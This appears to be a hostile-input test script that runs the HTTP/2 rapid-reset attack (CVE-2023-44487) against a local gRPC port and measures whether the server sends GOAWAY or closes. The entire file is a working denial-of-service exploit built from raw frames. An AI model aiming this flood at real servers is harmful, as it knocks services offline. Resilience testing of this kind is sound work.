"""HTTP/2 rapid reset (CVE-2023-44487) against a gRPC port: open a stream (HEADERS for a
ServerLive call) and reset it at once (RST_STREAM, CANCEL), N times on one connection, as fast
as the socket takes them; print, as JSON, how many were sent, the seconds, whether the server
answered GOAWAY or closed, and this process's CPU (the attacker's cost). Raw frames: no
client library would be this rude.
Usage: python tests/hostile/rapid_reset.py PORT N
"""

from __future__ import annotations

import json
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY = 1, 3, 4, 7
END_HEADERS, CANCEL, ACK = 0x4, 8, 0x1


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


def literal(name: str, value: str) -> bytes:
    """An HPACK literal header field without indexing, new name, no Huffman coding."""
    n, v = name.encode(), value.encode()
    return b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v


BLOCK = b"".join(
    literal(k, v)
    for k, v in (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/inference.GRPCInferenceService/ServerLive"),
        (":authority", "127.0.0.1"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    )
)


def main(port: int, total: int) -> None:
    sock = socket.create_connection(("127.0.0.1", port))
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
    seen = {"goaway": False, "closed": False}
    unacknowledged: list[int] = []
    """The server's SETTINGS, acknowledged by the sending thread as a real client does: gRPC
    core refuses every stream of a peer that never acknowledges, at no cost to itself."""

    def read() -> None:
        buffer = b""
        try:
            while data := sock.recv(65536):
                buffer += data
                while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], "big"):
                    seen["goaway"] |= buffer[3] == GOAWAY
                    if buffer[3] == SETTINGS and not buffer[4] & ACK:
                        unacknowledged.append(1)
                    buffer = buffer[9 + int.from_bytes(buffer[:3], "big") :]
        except OSError:
            pass
        seen["closed"] = True

    threading.Thread(target=read, daemon=True).start()
    until = time.monotonic() + 2
    while not unacknowledged and time.monotonic() < until:  # the server's preface first
        time.sleep(0.01)
    start, cpu = time.monotonic(), time.process_time()
    sent, stream = 0, 1
    try:
        while sent < total and not (seen["goaway"] or seen["closed"]):
            owed = len(unacknowledged)
            del unacknowledged[:owed]
            batch = frame(SETTINGS, ACK, 0, b"") * owed + b"".join(
                frame(HEADERS, END_HEADERS, stream + 2 * i, BLOCK)
                + frame(RST_STREAM, 0, stream + 2 * i, struct.pack(">I", CANCEL))
                for i in range(500)
            )
            sock.sendall(batch)
            stream, sent = stream + 1000, sent + 500
    except OSError:
        seen["closed"] = True
    time.sleep(0.5)
    sock.close()
    result = {"sent": sent, "seconds": time.monotonic() - start, **seen}
    print(json.dumps({**result, "cpu_s": time.process_time() - cpu}))


if __name__ == "__main__":
    main(int(sys.argv[1]), int(sys.argv[2]))
